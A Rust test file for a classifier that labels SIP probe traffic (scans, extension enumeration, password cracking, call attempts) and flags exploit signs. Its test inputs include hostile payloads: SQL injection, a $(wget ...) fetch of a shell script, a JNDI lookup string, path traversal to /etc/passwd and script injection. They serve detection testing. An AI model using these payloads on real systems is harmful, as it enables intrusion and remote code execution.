//! Classification of the real probe captures in `tests/fixtures/sip/`, every rule and exploit
//! sign, and properties that hold for any input.

use proptest::prelude::*;

use super::*;
use crate::sip::parse;

macro_rules! fixture {
    ($name:literal) => {
        include_bytes!(concat!("../../../tests/fixtures/sip/", $name))
    };
}

/// Every fixture and the attack type it must get.
const FIXTURES: [(&str, &[u8], AttackType); 15] = [
    (
        "svmap_options.sip",
        fixture!("svmap_options.sip"),
        AttackType::Scan,
    ),
    (
        "sipsak_options.sip",
        fixture!("sipsak_options.sip"),
        AttackType::Scan,
    ),
    (
        "tpot_smoke_options.sip",
        fixture!("tpot_smoke_options.sip"),
        AttackType::Scan,
    ),
    (
        "bare_lf_options.sip",
        fixture!("bare_lf_options.sip"),
        AttackType::Scan,
    ),
    (
        "compact_form_options.sip",
        fixture!("compact_form_options.sip"),
        AttackType::Scan,
    ),
    (
        "non_utf8_user_agent.sip",
        fixture!("non_utf8_user_agent.sip"),
        AttackType::Scan,
    ),
    (
        "register.sip",
        fixture!("register.sip"),
        AttackType::ExtensionEnumeration,
    ),
    (
        "svwar_register.sip",
        fixture!("svwar_register.sip"),
        AttackType::ExtensionEnumeration,
    ),
    (
        "svcrack_register_digest.sip",
        fixture!("svcrack_register_digest.sip"),
        AttackType::PasswordCracking,
    ),
    (
        "sipp_invite_sdp.sip",
        fixture!("sipp_invite_sdp.sip"),
        AttackType::CallAttempt,
    ),
    (
        "invite_international_number.sip",
        fixture!("invite_international_number.sip"),
        AttackType::CallAttempt,
    ),
    (
        "proxied_bye.sip",
        fixture!("proxied_bye.sip"),
        AttackType::Other,
    ),
    (
        "response_200_ok.sip",
        fixture!("response_200_ok.sip"),
        AttackType::Other,
    ),
    (
        "garbage.sip",
        fixture!("garbage.sip"),
        AttackType::Malformed,
    ),
    (
        "http_get.sip",
        fixture!("http_get.sip"),
        AttackType::Malformed,
    ),
];

fn classified(bytes: &[u8]) -> Classification<'_> {
    let probe = parse(bytes);
    classify(&probe)
}

fn attack_type_of(bytes: &[u8]) -> AttackType {
    classified(bytes).attack_type
}

#[test]
fn every_fixture_gets_its_attack_type() {
    for (name, bytes, expected) in FIXTURES {
        let found = classified(bytes);
        assert_eq!(found.attack_type, expected, "{name}");
        assert_eq!(found.exploit, None, "{name} has no exploit sign");
    }
}

#[test]
fn svcrack_register_yields_its_digest_credentials() {
    let found = classified(fixture!("svcrack_register_digest.sip"));
    assert!(found.has_credentials);
    let credentials = found.authorization.expect("credentials read");
    let text = |value: Option<crate::sip::digest::ParamValue<'_>>| {
        value.map(|value| value.to_text().into_owned())
    };
    assert_eq!(text(credentials.username).as_deref(), Some("100"));
    assert_eq!(text(credentials.realm).as_deref(), Some("asterisk"));
    assert_eq!(text(credentials.nonce).as_deref(), Some("00000001"));
    assert_eq!(text(credentials.uri).as_deref(), Some("sip:127.0.0.1"));
    assert_eq!(text(credentials.algorithm).as_deref(), Some("MD5"));
    assert_eq!(text(credentials.qop).as_deref(), Some("auth"));
    assert_eq!(
        text(credentials.response).as_deref(),
        Some("321dcfbd02c4763dba804cf7dbfef882")
    );
    assert_eq!(found.from_user, Some(&b"100"[..]));
    assert_eq!(found.contact, Some(&b"sip:123@1.1.1.1"[..]));
}

#[test]
fn caller_identity_comes_from_from_contact_and_p_asserted_identity() {
    let svmap = classified(fixture!("svmap_options.sip"));
    assert_eq!(svmap.from_user, Some(&b"100"[..]));
    assert_eq!(svmap.contact, Some(&b"sip:100@192.168.1.5:5060"[..]));
    assert_eq!(svmap.p_asserted_identity, None);
    assert!(!svmap.has_credentials && svmap.authorization.is_none());

    let compact = classified(fixture!("compact_form_options.sip"));
    assert_eq!(compact.from_user, Some(&b"scanner"[..]));
    assert_eq!(compact.contact, Some(&b"<sip:scanner@192.0.2.9:40000>"[..]));

    let invite = b"INVITE sip:0046812118532@192.0.2.1 SIP/2.0\r\n\
        From: \"Office\" <sip:201@192.0.2.1>;tag=9\r\n\
        To: <sip:0046812118532@192.0.2.1>\r\n\
        Contact: <sip:201@198.51.100.4:5062>\r\n\
        P-Asserted-Identity: \"CEO\" <sip:+442071234567@192.0.2.1>\r\n\r\n";
    let found = classified(invite);
    assert_eq!(found.attack_type, AttackType::CallAttempt);
    assert_eq!(found.from_user, Some(&b"201"[..]));
    assert_eq!(found.contact, Some(&b"<sip:201@198.51.100.4:5062>"[..]));
    assert_eq!(
        found.p_asserted_identity,
        Some(&b"\"CEO\" <sip:+442071234567@192.0.2.1>"[..])
    );
}

#[test]
fn invite_is_a_call_attempt_even_with_credentials() {
    let invite =
        b"INVITE sip:900@x SIP/2.0\r\nProxy-Authorization: Digest username=\"100\"\r\n\r\n";
    let found = classified(invite);
    assert_eq!(found.attack_type, AttackType::CallAttempt);
    assert!(found.has_credentials);
    assert!(found.authorization.and_then(|c| c.username).is_some());
}

#[test]
fn credentials_make_any_other_request_password_cracking() {
    for method in ["REGISTER", "OPTIONS", "SUBSCRIBE", "BYE", "MESSAGE"] {
        let request = format!(
            "{method} sip:x SIP/2.0\r\nAuthorization: Digest username=\"7\", response=\"ab\"\r\n\r\n"
        );
        assert_eq!(
            attack_type_of(request.as_bytes()),
            AttackType::PasswordCracking,
            "{method}"
        );
    }
    let proxy = b"REGISTER sip:x SIP/2.0\r\nProxy-Authorization: Basic MTAwOnNlY3JldA==\r\n\r\n";
    assert_eq!(attack_type_of(proxy), AttackType::PasswordCracking);
    let unreadable = b"REGISTER sip:x SIP/2.0\r\nAuthorization: \"\"\r\n\r\n";
    let found = classified(unreadable);
    assert_eq!(found.attack_type, AttackType::PasswordCracking);
    assert_eq!(found.authorization, None, "carried, but not readable");
}

#[test]
fn an_empty_authorization_header_is_not_credentials() {
    let found = classified(b"REGISTER sip:x SIP/2.0\r\nAuthorization:   \r\n\r\n");
    assert!(!found.has_credentials);
    assert_eq!(found.attack_type, AttackType::ExtensionEnumeration);
}

#[test]
fn methods_map_to_their_rule_ignoring_case() {
    let cases = [
        ("REGISTER", AttackType::ExtensionEnumeration),
        ("register", AttackType::ExtensionEnumeration),
        ("SUBSCRIBE", AttackType::ExtensionEnumeration),
        ("INVITE", AttackType::CallAttempt),
        ("invite", AttackType::CallAttempt),
        ("OPTIONS", AttackType::Scan),
        ("MESSAGE", AttackType::Scan),
        ("PUBLISH", AttackType::Scan),
        ("REFER", AttackType::Scan),
        ("FOOBAR", AttackType::Scan),
        ("ACK", AttackType::Other),
        ("BYE", AttackType::Other),
        ("CANCEL", AttackType::Other),
        ("PRACK", AttackType::Other),
        ("UPDATE", AttackType::Other),
        ("INFO", AttackType::Other),
        ("NOTIFY", AttackType::Other),
    ];
    for (method, expected) in cases {
        let request = format!("{method} sip:100@192.0.2.1 SIP/2.0\r\n\r\n");
        assert_eq!(attack_type_of(request.as_bytes()), expected, "{method}");
    }
}

#[test]
fn empty_and_unparsable_messages_are_malformed() {
    for input in [
        &b""[..],
        b"\r\n\r\n",
        b"   ",
        b"hello world",
        b"SIP/2.0 abc",
        b"GET / HTTP/1.1\r\n\r\n",
    ] {
        assert_eq!(attack_type_of(input), AttackType::Malformed, "{input:?}");
    }
}

#[test]
fn exploit_patterns_in_uris_and_headers_make_a_request_malformed() {
    let cases: [(&[u8], ExploitSign); 12] = [
        (
            b"REGISTER sip:100'OR'1'='1@x SIP/2.0\r\n\r\n",
            ExploitSign::SqlInjection,
        ),
        (
            b"OPTIONS sip:x SIP/2.0\r\nTo: <sip:1 UNION SELECT password FROM users@x>\r\n\r\n",
            ExploitSign::SqlInjection,
        ),
        (
            b"INVITE sip:x SIP/2.0\r\nUser-Agent: $(wget http://203.0.113.9/x.sh)\r\n\r\n",
            ExploitSign::ShellInjection,
        ),
        (
            b"OPTIONS sip:x SIP/2.0\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
            ExploitSign::ShellInjection,
        ),
        (
            b"OPTIONS sip:x SIP/2.0\r\nFrom: <sip:`id`@x>\r\n\r\n",
            ExploitSign::ShellInjection,
        ),
        (
            b"OPTIONS sip:../../etc/passwd@x SIP/2.0\r\n\r\n",
            ExploitSign::PathTraversal,
        ),
        (
            b"OPTIONS sip:%2E%2E%2Fetc@x SIP/2.0\r\n\r\n",
            ExploitSign::PathTraversal,
        ),
        (
            b"REGISTER sip:x SIP/2.0\r\nFrom: \"<SCRIPT>alert(1)</script>\" <sip:1@x>\r\n\r\n",
            ExploitSign::ScriptInjection,
        ),
        (
            b"REGISTER sip:x SIP/2.0\r\nTo: <sip:%s%s%s%s@x>\r\n\r\n",
            ExploitSign::FormatString,
        ),
        (
            b"OPTIONS sip:x SIP/2.0\r\nUser-Agent: a\x00b\r\n\r\n",
            ExploitSign::ControlByte,
        ),
        (
            b"OPTIONS sip:x SIP/2.0\r\nUser-Agent: a\x1bb\r\n\r\n",
            ExploitSign::ControlByte,
        ),
        (
            b"SIP/2.0 200 OK\r\nServer: x\x7f\r\n\r\n",
            ExploitSign::ControlByte,
        ),
    ];
    for (input, sign) in cases {
        let found = classified(input);
        assert_eq!(
            found.exploit,
            Some(sign),
            "{}",
            String::from_utf8_lossy(input)
        );
        assert_eq!(found.attack_type, AttackType::Malformed);
    }
}

#[test]
fn overlong_uris_and_header_values_are_malformed() {
    let long_uri = format!(
        "OPTIONS sip:{}@x SIP/2.0\r\n\r\n",
        "1".repeat(MAX_REQUEST_URI_BYTES)
    );
    assert_eq!(
        classified(long_uri.as_bytes()).exploit,
        Some(ExploitSign::Overlong)
    );
    let fitting_uri = format!("OPTIONS sip:{}@x SIP/2.0\r\n\r\n", "1".repeat(1000));
    assert_eq!(attack_type_of(fitting_uri.as_bytes()), AttackType::Scan);
    let long_header = format!(
        "REGISTER sip:x SIP/2.0\r\nUser-Agent: {}\r\n\r\n",
        "A".repeat(MAX_HEADER_VALUE_BYTES + 1)
    );
    assert_eq!(
        attack_type_of(long_header.as_bytes()),
        AttackType::Malformed
    );
}

#[test]
fn ordinary_punctuation_is_not_an_exploit() {
    let request = b"INVITE sip:+44(0)20-7946-0958@x;user=phone SIP/2.0\r\n\
        From: \"O'Brien, Pat\" <sip:pat@x>;tag=a.b-c_d~e\r\n\
        To: <tel:+442079460958;phone-context=+44>\r\n\
        User-Agent: Zoiper rv2.10.18.2 (Windows 10; x64) 100% ok\r\n\
        Subject: a folded\r\n subject line\r\n\r\n";
    let found = classified(request);
    assert_eq!(found.exploit, None);
    assert_eq!(found.attack_type, AttackType::CallAttempt);
}

#[test]
fn the_exploit_matcher_builds_and_every_pattern_triggers_its_sign() {
    assert!(EXPLOIT_MATCHER.is_some());
    for (pattern, sign) in EXPLOIT_PATTERNS {
        let upper = pattern.to_ascii_uppercase();
        for variant in [pattern.to_owned(), upper] {
            let field = format!("abc{variant}def");
            assert_eq!(pattern_sign(field.as_bytes()), Some(sign), "{variant}");
        }
    }
    for byte in (0..=u8::MAX).filter(|&byte| is_control_byte(byte)) {
        assert_eq!(
            pattern_sign(&[b'a', byte, b'b']),
            Some(ExploitSign::ControlByte)
        );
    }
    assert_eq!(
        pattern_sign(b"a\tb\r\n c\xff"),
        None,
        "tab, CR, LF and 8-bit bytes are fine"
    );
}

#[test]
fn attack_type_names_and_bits_are_stable() {
    let names: Vec<&str> = AttackType::ALL.iter().map(|t| t.as_str()).collect();
    assert_eq!(
        names,
        [
            "scan",
            "extension_enumeration",
            "password_cracking",
            "call_attempt",
            "malformed",
            "other"
        ]
    );
    let bits: Vec<u8> = AttackType::ALL.iter().map(|t| t.bit()).collect();
    assert_eq!(bits, [1, 2, 4, 8, 16, 32]);
    for attack_type in AttackType::ALL {
        assert_eq!(
            AttackType::from_name(attack_type.as_str()),
            Some(attack_type)
        );
        assert_eq!(attack_type.to_string(), attack_type.as_str());
    }
    assert_eq!(AttackType::from_name("SCAN"), None);
    assert_eq!(AttackType::from_name(""), None);
    let both = AttackType::Scan.bit() | AttackType::CallAttempt.bit();
    assert_eq!(
        AttackType::in_bits(both).collect::<Vec<_>>(),
        [AttackType::Scan, AttackType::CallAttempt]
    );
    assert_eq!(AttackType::in_bits(0).count(), 0);
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic_and_follow_rule_one(
        bytes in proptest::collection::vec(any::<u8>(), 0..2048),
    ) {
        let probe = parse(&bytes);
        let found = classify(&probe);
        let unparsable = matches!(probe.kind, MessageKind::Empty | MessageKind::Malformed);
        prop_assert_eq!(
            found.attack_type == AttackType::Malformed,
            unparsable || found.exploit.is_some()
        );
    }

    #[test]
    fn sip_shaped_requests_never_panic(
        method in "[A-Za-z]{1,10}",
        user in "[ -~]{0,30}",
        header in "(Authorization|Proxy-Authorization|From|Contact|P-Asserted-Identity|m|f)",
        value in "[ -~]{0,60}",
    ) {
        let request = format!("{method} sip:{user}@x SIP/2.0\r\n{header}: {value}\r\n\r\n");
        let probe = parse(request.as_bytes());
        let found = classify(&probe);
        if probe.kind == MessageKind::Request
            && found.exploit.is_none()
            && method.eq_ignore_ascii_case("INVITE")
        {
            prop_assert_eq!(found.attack_type, AttackType::CallAttempt);
        }
    }
}
